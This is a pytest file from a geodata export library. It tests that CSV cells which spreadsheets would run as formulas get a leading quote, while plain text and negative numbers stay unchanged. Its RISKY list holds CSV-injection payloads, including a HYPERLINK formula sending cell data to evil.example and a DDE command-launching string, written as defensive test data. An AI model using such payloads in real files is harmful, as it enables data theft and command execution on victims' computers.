"""CSV cells are data, never formulas (issue 11, item 7): the OWASP quote on risky text, in the
open-data CSV writer too, while numbers (negative ones included) stay numbers."""
from __future__ import annotations

import csv
import io
import json

import pyarrow as pa
import pytest
import shapely

from geo.csv_cells import safe_batch, safe_text
from geo.vector_export import arrow_schema, write_all

RISKY = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
         "\t=1+1", "\r=1+1", "=1"]
HARMLESS = ["Thôn Đông", "-12", "+84912345678", "-0.5", "1e-3", "a=b", " =1 leading space is text", ""]


@pytest.mark.parametrize("value", RISKY)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(value):
    assert safe_text(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_plain_text_and_numbers_written_as_text_stay_as_they_are(value):
    assert safe_text(value) == value


def test_arrow_batches_quote_text_columns_only():
    batch = pa.RecordBatch.from_arrays(
        [pa.array(RISKY + HARMLESS + [None]), pa.array([-1.5] * (len(RISKY) + len(HARMLESS) + 1)),
         pa.array([-7] * (len(RISKY) + len(HARMLESS) + 1), pa.int64())],
        names=["name", "share", "count"])
    out = safe_batch(batch).to_pydict()
    assert out["name"] == ["'" + v for v in RISKY] + HARMLESS + [None]
    assert out["share"] == batch.column(1).to_pylist() and out["count"] == batch.column(2).to_pylist()


def test_the_open_data_csv_quotes_formulas_and_keeps_negative_numbers(tmp_path):
    names = RISKY + ["Thôn Đông", "-12"]
    schema = arrow_schema([("id", "integer"), ("name_vi", "string"), ("change", "number")])
    rows = pa.RecordBatch.from_arrays([
        pa.array(range(len(names)), pa.int64()), pa.array(names), pa.array([-3.5] * len(names)),
        pa.array(shapely.to_wkb(shapely.points([105.0] * len(names), [18.5] * len(names))), pa.binary()),
    ], schema=schema)
    paths = write_all(tmp_path, "villages", schema, iter([rows]), "Point", formats=("geojson", "csv"))
    with open(paths["csv"], newline="", encoding="utf-8-sig") as f:  # the BOM Excel needs (issue 12)
        table = list(csv.DictReader(f))
    assert [r["name_vi"] for r in table] == ["'" + n for n in RISKY] + ["Thôn Đông", "-12"]
    assert {r["change"] for r in table} == {"-3.5"}
    assert all(not r["WKT"].startswith(("=", "+", "-", "@", "'")) for r in table)
    # Only the CSV is quoted: GeoJSON keeps the values exactly.
    geojson = json.loads(paths["geojson"].read_text(encoding="utf-8"))
    assert [f["properties"]["name_vi"] for f in geojson["features"]] == names
    raw = io.StringIO(paths["csv"].read_text(encoding="utf-8-sig"))
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in csv.reader(raw) for cell in row)
